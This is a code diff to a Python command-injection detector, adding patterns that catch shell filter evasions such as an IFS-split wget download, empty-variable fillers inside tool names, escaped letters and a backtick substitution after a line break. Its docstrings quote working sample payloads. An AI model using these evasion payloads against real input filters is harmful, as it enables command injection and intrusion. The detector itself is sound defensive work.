@@ -233,6 +233,10 @@ _SNIPPET_INSIDE = re.compile(
 TOOLS = STRONG | WEAK | CLI_TOOLS
 _ENCODED_BLANK = re.compile(r"%(?:09|20)")
 _ENCODED_BREAK = re.compile(r"%(?:0[9ad]|20)", re.I)
+_INPUT_LINE = re.compile(r"\s*(?:[\d.:]{1,40}|[\w-]{1,63}(?:\.[\w-]{1,63})+)\r?")
+"""A first line that is what the field expected (a number, an address, a host name) before a line break that opens a
+backtick substitution (``1\n`curl http://…``, fresh34): the break ends the expected value the way ``;`` would, so
+the substitution is glued to it. A label or a sentence before a code span (``Example\n`ls -la```) is not a value."""
 """A line break, tab or space that a header value carries percent-encoded: a code span after it opens a line of the
 text (`` …%0A%0A`make dist`%0A…``), as its decoded form reads, not a substitution glued to the escape's ``A``.
 What counts there is what counts on a line that opens a value (``_opening_line_runs``): an unambiguous tool, a
@@ -676,11 +680,19 @@ def _starts_with_tool(text: str) -> str:
     return word if word in STRONG or word in WEAK or word in TOOL_NAMES else ""
 
 
+_IFS_SPLIT_RUN = re.compile(r"(?:^|[;&|\s])IFS=[^\s;]{1,2};[^\n]{0,400}?;\s*\$\{?[a-z_]\w{0,31}\}?\s*$", re.I)
+"""The field separator set to one character, then a variable run as the whole last command
+(``IFS=];b=wget]host/x]-P]/tmp;$b``, fresh34): the shell splits the variable's value at that character into a
+command and its arguments, so the command line is written without one space."""
+
+
 def _spelled_by_shell(value: str) -> tuple[int, int] | None:
     """Commands and arguments the shell builds from something else, which the separator scan cannot see: one character
     of a variable, a variable with filler removed, a decoded constant, a word split by backslash-newline, a file read by
     ``$(</path)``, a loop that sends output through DNS, a command spelled in ``$'…'`` codes; also code that runs
     one without a shell separator (XSLT's ``php:function``) and argument injection (``--upload-pack=…``)."""
+    if "IFS=" in value and (split_run := _IFS_SPLIT_RUN.search(value)):
+        return split_run.start(), split_run.end()
     if "${" in value:
         for m in _SUBSTRING_CHAR.finditer(value):
             glued = value[m.start() - 1 : m.start()].isalnum() or value[m.end() : m.end() + 1].isalnum()
@@ -719,7 +731,12 @@ _ECHO_SUBST = re.compile(r"\$\(\s*echo\s+([a-z]+)\s*\)|`\s*echo\s+([a-z]+)\s*`",
 _SPLIT_HINT = re.compile(r"['\"\\$`]")
 _IFS_SPACE = ("${IFS}", "$IFS")
 _HEAD = re.compile(r"(?:[^\s;|&<>]|[<>]\(\))+")
-_FILLER = re.compile(r"\$[@*!?$_-]|\$\{\}|[<>]\(\)|(?<=[a-z])\$[a-z_]\w*$", re.I)
+_FILLER = re.compile(r"\$[@*!?$_-]|\$\{\}|[<>]\(\)|(?<=[a-z])\$[a-z_]\w*$|\$\{(?!IFS\})[a-z_]\w{0,15}\}", re.I)
+_FAKE_EMPTY = re.compile(r"\$\{(?!IFS\})[a-z_]\w{0,15}\}|\$\(([a-z]{1,2})\)|`([a-z]{1,2})`", re.I)
+"""Fillers that expand to nothing inside a word (fresh34): an unset braced variable (``p${u}i${u}n${u}g``) and a
+one- or two-letter command that does not exist (``p$(u)i$(u)n$(u)g``, ``w`u`h`u`o`u`a`u`m`u`i``: the shell prints
+an error and substitutes the empty output). A substitution of a real tool (``$(id)``) is not filler. Two of them
+inside one tool's name are enough on their own, whatever the tool: only a filter evasion puts them there."""
 _TRAILING_VARIABLE = re.compile(r"\$[a-z_]\w*(?=[\s;|&<>]|$)", re.I)
 _REMOVED = str.maketrans("", "", "'\"\\")
 
@@ -760,6 +777,9 @@ def _shell_word(text: str) -> tuple[str, int, bool] | None:
                 continue
         elif c in "$`":
             empty = next((e for e in _EMPTY_EXPANSIONS if text.startswith(e, i)), None)
+            if empty is None and (fake := _FAKE_EMPTY.match(text, i)) and (
+                    (fake.group(1) or fake.group(2) or "").lower() not in TOOLS):
+                empty = fake.group()
             echo = None if empty else _ECHO_SUBST.match(text, i)
             if empty is None and echo is None and out and (unset := _TRAILING_VARIABLE.match(text, i)):
                 empty = unset.group()  # a variable glued to the word's end, unset: uname$u -a
@@ -779,6 +799,16 @@ def _shell_word(text: str) -> tuple[str, int, bool] | None:
         out.append(c)
         i += 1
     return None if quote else ("".join(out), i, split)
+
+
+_ESCAPED_LETTER = re.compile(r"\\(?=[\w-])")
+"""A backslash before a letter or a dash in the arguments of a split tool (``\\u\\n\\a\\m\\e \\-\\a``): the shell drops
+it, so the arguments read as written without it (fresh34)."""
+
+
+def _inner_fillers(text: str, end: int) -> int:
+    """How many ``_FAKE_EMPTY`` fillers sit inside the first word's letters (a letter right after each)."""
+    return sum(1 for m in _FAKE_EMPTY.finditer(text, 0, end) if text[m.end() : m.end() + 1].isalpha())
 
 
 def _split_command(value: str) -> bool:
@@ -806,9 +836,9 @@ def _split_command(value: str) -> bool:
     tool = m.group(1).lower() if m else ""
     if tool not in TOOLS and tool not in TOOL_NAMES:
         return False
-    rest = normalize(text[end:])
+    rest = normalize(_ESCAPED_LETTER.sub("", text[end:]) if "\\" in text[end:] else text[end:])
     if not rest.strip():
-        return tool in STRONG or tool in RECON or tool in SHELLS
+        return tool in STRONG or tool in RECON or tool in SHELLS or _inner_fillers(text, end) >= 2
     line = word + rest
     return (bare_command(line) or _strong_then_separator(line) or _SHELLISH_ARG.match(rest) is not None
             or _AFTER_CMD_END.match(rest) is not None)
@@ -1075,6 +1105,7 @@ def is_cmdi(value: str) -> tuple[int, int] | None:
             whole = m.start() == 0 and close == len(text.rstrip()) - 1
             glued = before != "" and not before.isspace() and before not in "([*_"
             glued = glued or text.startswith("$(", m.start() - 2)  # $(`id`): a substitution inside a substitution
+            glued = glued or (before == "\n" and _INPUT_LINE.fullmatch(text, 0, m.start() - 1) is not None)
             if glued and _ENCODED_BREAK.fullmatch(text, max(0, m.start() - 3), m.start()):
                 if _command_at(inner + " ", 0, ";", strong_only=True) or _opening_line_runs(inner, 0):
                     return m.start(), close + 1
